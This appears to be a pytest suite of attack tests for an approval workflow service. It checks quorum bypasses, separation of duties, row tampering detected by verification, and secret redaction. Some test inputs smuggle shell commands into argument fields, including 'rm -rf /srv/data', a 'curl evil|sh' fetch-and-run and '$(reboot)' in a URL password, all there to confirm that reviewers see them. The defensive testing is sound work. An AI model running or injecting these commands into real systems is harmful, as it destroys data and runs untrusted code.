"""Attacks on the approvals domain (issue 17): an option named like a status, a quorum satisfied
with two different edits, separation of duties with nobody to separate, a metrics service account
deciding, a reviewer's inbox buried under approvals for others, a row rewritten or deleted with
its trail, a hidden argument that is really a shell command, a secret left raw in a title or a
comment, and a trail that does not say how a decision arrived.

Each attack is a `with attack(family):` block (tests.faults.attack_kit): it fails if the attack
succeeds. The attackers use the HTTP API with their own tokens, or write the database directly.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from tests.faults.attack_kit import attack, build_target, tamper, trail
from tests.server.kit import ORIGIN, SECRET, Person, start_approval

import tether
from tether.server import create_server
from tether.store.port.approvals import ApprovalRecord
from tether.users import add_user

pytestmark = pytest.mark.timeout(60)

EDITABLE = [{"id": "approve", "label": "Approve", "style": "primary",
             "schema": {"type": ["object", "null"]}},
            {"id": "reject", "label": "Reject", "style": "destructive"}]  # fmt: skip


@pytest.fixture
async def app(tmp_path: Path) -> AsyncIterator[tether.App]:
    built = build_target(f"sqlite:///{tmp_path}/attacks.db")
    async with built:
        yield built


@pytest.fixture
async def people(app: tether.App) -> dict[str, Person]:
    made = {}
    for name, groups in (("alice", {"sre"}), ("bob", {"sre"}), ("prom", {"metrics"}),
                         ("eve", {"finance"})):  # fmt: skip
        user, token = await add_user(app.engine, name, frozenset(groups))
        made[name] = Person(user, token)
    return made


@pytest.fixture
async def client(app: tether.App) -> AsyncIterator[httpx.AsyncClient]:
    server: FastAPI = create_server(app, secret=SECRET)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=server),
                                 base_url=ORIGIN) as made:  # fmt: skip
        yield made


def bearer(person: Person) -> dict[str, str]:
    return {"Authorization": f"Bearer {person.token}"}


async def decide(
    client: httpx.AsyncClient, who: Person, approval: tether.Approval, option: str = "approve",
    **extra: Any,
) -> httpx.Response:  # fmt: skip
    body = {"option": option, "operation_digest": approval.operation_digest, **extra}
    return await client.post(f"/api/approvals/{approval.id}/decision", json=body,
                             headers=bearer(who))  # fmt: skip


async def ended(app: tether.App, run_id: str) -> tether.RunStatus:
    handle = await app.get(run_id)
    async with asyncio.timeout(10):
        while not (status := await handle.status()).terminal:
            await asyncio.sleep(0.01)
    return status


async def stored(app: tether.App, approval_id: str) -> ApprovalRecord:
    found = await app.engine.store.get_approval(approval_id)
    assert found is not None
    return found


def acted(app: tether.App, run_id: str) -> bool:
    """Whether the guarded step `act` ran in the run (its checkpoint exists)."""
    import contextlib
    import sqlite3

    path = app.url.removeprefix("sqlite:///")
    with contextlib.closing(sqlite3.connect(path)) as db:
        rows = db.execute("SELECT 1 FROM tether_checkpoints WHERE run_id = ? AND name = 'act'",
                          (run_id,)).fetchall()  # fmt: skip
    return bool(rows)


# -- 1. decisions ----------------------------------------------------------------------------


async def test_an_option_named_approved_never_gets_around_a_quorum(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    with attack("approvals: status-word option"):
        sneaky = [*EDITABLE, {"id": "approved", "label": "Looks good"}]
        await app.start("ask", {"options": sneaky, "required": 2}, id="run-word")
        assert await ended(app, "run-word") is tether.RunStatus.FAILED
        assert await app.list_approvals(status=None, run_id="run-word") == []
    # An approval stored before the check, offering the word, still cannot approve by one vote.
    target = await start_approval(app, "run-word-old", required=2)
    options = json.dumps([*json.loads((await stored(app, target.id)).options),
                          {"id": "approved", "label": "Looks good"}])  # fmt: skip
    tamper(app, "UPDATE tether_approvals SET body = json_set(body, '$.options', ?) WHERE id = ?",
           options, target.id)  # fmt: skip
    with attack("approvals: status-word option"):
        answer = await decide(client, people["alice"], target, "approved")
        assert answer.status_code >= 400, answer.text
        assert (await stored(app, target.id)).status == "pending"
        assert not acted(app, "run-word-old")


async def test_bobs_different_edit_never_runs_after_alice_approved_the_release(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-edit", options=EDITABLE, required=2)
    good = {"arguments": {"version": "1.2.3", "env": "prod"}}
    assert (await decide(client, people["alice"], target, response=good)).status_code == 200
    with attack("approvals: quorum edit"):
        evil = {"arguments": {"version": "6.6.6-evil", "force": True}}
        answer = await decide(client, people["bob"], target, response=evil)
        assert answer.status_code >= 400, answer.text
        assert answer.json()["reason"] == "differing_edit"
        record = await stored(app, target.id)
        assert record.status == "pending"
        assert "6.6.6-evil" not in (record.decision or "")
        assert not acted(app, "run-edit")
        assert ("refused", "bob") in [(e, a) for e, a, _ in trail(app, target.id)]


async def test_separate_duties_in_a_run_nobody_started_lets_nobody_approve(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    with attack("approvals: separate duties without a starter"):
        await app.start("ask", {"separate_duties": True}, id="run-sod")
        assert await ended(app, "run-sod") is tether.RunStatus.FAILED
        assert await app.list_approvals(status=None, run_id="run-sod") == []
        assert not acted(app, "run-sod")
    # One stored before the check (no starter) is refused to everyone.
    target = await start_approval(app, "run-sod-old")
    tamper(app, "UPDATE tether_approvals SET body = json_set(body, '$.separate_duties', "
           "json('true')) WHERE id = ?", target.id)  # fmt: skip
    with attack("approvals: separate duties without a starter"):
        answer = await decide(client, people["alice"], target)
        assert answer.status_code == 403, answer.text
        assert answer.json()["reason"] == "separate_duties"
        assert (await stored(app, target.id)).status == "pending"


async def test_a_metrics_service_account_never_decides_an_approval_for_anyone(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-svc", reviewers=["*"])
    with attack("approvals: service account"):
        answer = await decide(client, people["prom"], target)
        assert answer.status_code in (403, 404), answer.text
        assert (await stored(app, target.id)).status == "pending"
        assert await app.list_approvals(reviewer=people["prom"].user.reviewer) == []


async def test_approvals_for_others_never_bury_a_reviewers_own(app: tether.App) -> None:
    first = await start_approval(app, "run-inbox", reviewers=["group:finance"])
    record = await stored(app, first.id)
    for n in range(2500):  # thousands asked of others, inserted behind Tether's back
        tamper(app, "INSERT INTO tether_approvals SELECT ?, run_id, step, status, "
               "created_at + ?, expires_at, updated_at, audit_count, audit_head, body "
               "FROM tether_approvals WHERE id = ?", f"ap-other-{n:04}", n / 1e6,
               record.id)  # fmt: skip
    mine = await start_approval(app, "run-mine", reviewers=["alice"])
    with attack("approvals: buried inbox"):
        listed = await app.list_approvals(reviewer=tether.Reviewer("alice", {"sre"}), limit=50)
        assert [a.id for a in listed] == [mine.id]


# -- 5. the trail covers the row -------------------------------------------------------------

REWRITES = {
    "reviewers": "body = json_set(body, '$.reviewers', '[\"*\"]')",
    "required": "body = json_set(body, '$.required', 1)",
    "separate_duties": "body = json_set(body, '$.separate_duties', json('false'))",
    "operation": "body = json_set(body, '$.operation', '{\"tool\": \"deploy\"}')",
    "operation_digest": "body = json_set(body, '$.operation_digest', '" + "0" * 64 + "')",
    "expires_at": "expires_at = 9.0e12",
    "title": "body = json_set(body, '$.title', 'Harmless')",
}


@pytest.mark.parametrize("field", list(REWRITES))
async def test_a_rewritten_approval_row_is_found_by_verify(app: tether.App, field: str) -> None:
    target = await start_approval(app, "run-rw", required=2, separate_duties=True,
                                  starter="carol")  # fmt: skip
    control = await start_approval(app, "run-rw-ok")
    assert all(p == [] for p in (await app.verify_approvals()).values())
    with attack("approvals: row rewritten"):
        assert tamper(app, f"UPDATE tether_approvals SET {REWRITES[field]} WHERE id = ?",
                      target.id) == 1  # fmt: skip
        found = await app.verify_approvals()
        assert found[control.id] == []
        assert found[target.id] != [], field


async def test_who_decided_rewritten_in_the_row_is_found_by_verify(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-who")
    assert (await decide(client, people["alice"], target, "reject")).status_code == 200
    await ended(app, "run-who")
    with attack("approvals: row rewritten"):
        tamper(app, "UPDATE tether_approvals SET body = json_set(body, '$.decision', "
               "json_set(json_extract(body, '$.decision'), '$.reviewer', 'bob') || '') "
               "WHERE id = ?", target.id)  # fmt: skip
        assert "bob" in " ".join((await app.verify_approvals())[target.id])


async def test_an_approval_deleted_with_its_trail_is_found_by_verify(app: tether.App) -> None:
    target = await start_approval(app, "run-del")
    with attack("approvals: deleted with its trail"):
        tamper(app, "DELETE FROM tether_approval_audit WHERE approval_id = ?", target.id)
        tamper(app, "DELETE FROM tether_approvals WHERE id = ?", target.id)
        found = await app.verify_approvals()
        assert target.id in found
        assert "deleted" in " ".join(found[target.id])


async def test_reading_an_approval_again_and_again_does_not_grow_its_trail(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-views")
    with attack("approvals: trail growth"):
        for _ in range(20):
            got = await client.get(f"/api/approvals/{target.id}", headers=bearer(people["alice"]))
            assert got.status_code == 200
        views = [a for e, a, _ in trail(app, target.id) if e == "viewed"]
        assert views == ["alice"]


# -- 6. what the reviewer sees is what runs ---------------------------------------------------


async def test_a_shell_command_in_a_secret_named_argument_is_shown_not_hidden(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    operation = {"tool": "deploy", "arguments": {"auth_token": "; rm -rf /srv/data",
                                                 "version": "1.2.3"}}  # fmt: skip
    target = await start_approval(app, "run-shell", operation=operation)
    with attack("approvals: hidden argument"):
        got = await client.get(f"/api/approvals/{target.id}", headers=bearer(people["alice"]))
        shown = got.json()["operation"]["arguments"]["auth_token"]
        assert "rm -rf /srv/data" in shown
        assert "WARNING" in shown


@pytest.mark.parametrize(
    ("arguments", "command"),
    [
        ({"cmd": "password=$(curl${IFS}evil|sh)"}, "$(curl${IFS}evil|sh)"),  # in plain text
        ({"url": "https://u:$(reboot)@db.example/"}, "$(reboot)"),  # a URL's password
        ({"credentials": {"cmd": "; rm -rf /srv/data"}}, "; rm -rf /srv/data"),  # nested
        ({"auth_token": "rm$IFS-rf$IFS/srv"}, "rm$IFS-rf$IFS/srv"),  # no space at all
    ],
    ids=["assigned-in-text", "url-password", "nested-under-secret-key", "ifs"],
)
async def test_a_command_dressed_as_a_secret_is_shown_wherever_it_hides(
    app: tether.App,
    client: httpx.AsyncClient,
    people: dict[str, Person],
    arguments: dict[str, Any],
    command: str,
) -> None:
    target = await start_approval(app, "run-dressed", operation={"arguments": arguments})
    with attack("approvals: hidden argument"):
        got = await client.get(f"/api/approvals/{target.id}", headers=bearer(people["alice"]))
        shown = json.dumps(got.json()["operation"])
        assert json.dumps(command)[1:-1] in shown
        assert "WARNING" in shown
        assert "hidden secret" not in shown


async def test_a_hidden_secret_says_it_is_hidden_with_its_length_and_fingerprint(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    operation = {"tool": "db_login", "arguments": {"password": "Sesame-hunter2-0451"}}
    target = await start_approval(app, "run-mask", operation=operation)
    with attack("approvals: hidden argument"):
        got = await client.get(f"/api/approvals/{target.id}", headers=bearer(people["alice"]))
        shown = got.json()["operation"]["arguments"]["password"]
        assert "Sesame" not in shown
        assert re.fullmatch(r"\[hidden secret, 19 chars, fp [0-9a-f]{12}; it runs as given\]",
                            shown), shown  # fmt: skip


async def test_the_digest_is_keyed_and_a_reviewer_cannot_read_its_key(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-key")
    with attack("approvals: digest key"):
        # The key is in the database, and in nothing the API answers.
        key = await app.engine.store.database_secret("approvals.digest", "00" * 32, 0.0)
        assert key != "00" * 32
        for path in (f"/api/approvals/{target.id}", "/api/approvals", "/api/runs/run-key"):
            got = await client.get(path, headers=bearer(people["alice"]))
            assert key not in got.text, path
        # A decision is bound to the stored digest, and nothing else.
        forged = {"option": "approve", "operation_digest": target.operation_digest[::-1]}
        answer = await client.post(f"/api/approvals/{target.id}/decision", json=forged,
                                   headers=bearer(people["alice"]))  # fmt: skip
        assert answer.json()["reason"] == "stale_digest"


# -- 7. redaction of what is stored ------------------------------------------------------------


async def test_a_tether_token_in_a_title_description_or_comment_is_never_stored(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    token = people["bob"].token
    target = await start_approval(app, "run-tt", title=f"Use {token}?",
                                  description=f"password=hunter2-0451 and {token}")  # fmt: skip
    answer = await decide(client, people["alice"], target, "reject",
                          comment=f"never paste {token} or password: hunter2-0451")  # fmt: skip
    assert answer.status_code == 200
    await ended(app, "run-tt")
    with attack("approvals: secrets stored raw"):
        import contextlib
        import sqlite3

        path = app.url.removeprefix("sqlite:///")
        with contextlib.closing(sqlite3.connect(path)) as db:
            rows = db.execute("SELECT body FROM tether_approvals UNION ALL "
                              "SELECT detail FROM tether_approval_audit").fetchall()  # fmt: skip
        text = " ".join(str(r[0]) for r in rows)
        assert token.removeprefix("tt_")[:20] not in text
        assert "hunter2-0451" not in text
        assert "[redacted]" in text


# -- 8. the trail says how a decision arrived --------------------------------------------------


async def test_a_decision_through_the_api_is_audited_with_its_channel(
    app: tether.App, client: httpx.AsyncClient, people: dict[str, Person]
) -> None:
    target = await start_approval(app, "run-chan")
    with attack("approvals: channel"):
        # The App's own callers are "app"; a decision through another channel says which.
        await app.decide(target.id, "reject", reviewer=people["alice"].user.reviewer,
                         operation_digest=target.operation_digest, channel="cli",
                         client="ops-box/4242")  # fmt: skip
        decided = [json.loads(d) for e, _, d in trail(app, target.id) if e == "decided"]
        assert [(d["channel"], d["client"]) for d in decided] == [("cli", "ops-box/4242")]
        with pytest.raises(tether.ConfigurationError):
            await app.decide(
                target.id,
                "reject",
                reviewer=people["alice"].user.reviewer,
                operation_digest=target.operation_digest,
                channel="inbox\nforged",
            )
